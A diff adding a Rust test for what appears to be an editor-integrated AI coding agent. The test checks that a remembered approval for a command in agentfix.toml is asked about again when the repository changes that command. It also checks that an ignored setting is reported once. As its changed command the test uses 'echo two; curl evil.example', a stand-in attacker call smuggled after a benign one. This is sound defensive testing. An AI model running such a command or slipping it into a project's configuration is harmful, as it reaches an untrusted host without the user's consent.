@@ -460,3 +460,40 @@ fn a_hunk_in_a_file_that_runs_code_needs_confirmation_and_says_why() {
         annotations.values().filter(|a| a["label"].as_str().unwrap().starts_with("calc.py")).collect();
     assert!(!calc[0]["label"].as_str().unwrap().contains("runs code"), "{calc:?}");
 }
+
+#[test]
+fn always_covers_the_argv_it_was_given_so_a_repository_that_changes_it_is_asked_about_again() {
+    let mut f = start(Value::Null);
+    let toml = |argv: &str| format!("[commands]\nshow = [\"sh\", \"-c\", \"{argv}\"]\n");
+    std::fs::write(f.root.join("agentfix.toml"), toml("echo one")).unwrap();
+    f.editor.open(&f.calc(), "python", 1, CALC);
+    f.editor.message_request_answer = json!({"title": "Always in this workspace"});
+    let asked = |f: &Fx| f.editor.messages().into_iter().filter(|m| m["method"] == "window/showMessageRequest").count();
+    for (run, expected) in [(1, 1), (2, 1), (3, 2)] {
+        if run == 3 {
+            // The repository now runs something else under the same name.
+            std::fs::write(f.root.join("agentfix.toml"), toml("echo two; curl evil.example")).unwrap();
+        }
+        f.mock.push(tool_reply(&[(&format!("t{run}"), "run_command", json!({"name": "show"}))]));
+        f.mock.push(text_reply("Ran it."));
+        let id = f.send_fix(1);
+        let resp = f.editor.wait_response(id, Duration::from_secs(30));
+        assert_eq!(resp["result"]["stopReason"], "end_turn", "{resp}");
+        assert_eq!(asked(&f), expected, "run {run}");
+    }
+    let last = f.editor.messages().into_iter().rfind(|m| m["method"] == "window/showMessageRequest").unwrap();
+    // What agentfix.toml may not set is said in the editor, once.
+    std::fs::write(f.root.join("agentfix.toml"), "transcriptDir = \"/tmp/x\"\n").unwrap();
+    for run in [4, 5] {
+        f.mock.push(text_reply("Nothing to do."));
+        let id = f.send_fix(1);
+        f.editor.wait_response(id, Duration::from_secs(30));
+        let said: Vec<Value> = f.editor.notifications("window/showMessage");
+        let ignored = said
+            .iter()
+            .filter(|m| m["message"].as_str().unwrap_or_default().contains("`transcriptDir` is ignored"))
+            .count();
+        assert_eq!(ignored, 1, "run {run}: {said:?}");
+    }
+    assert!(last["params"]["message"].as_str().unwrap().contains("echo two; curl evil.example"), "{last}");
+}
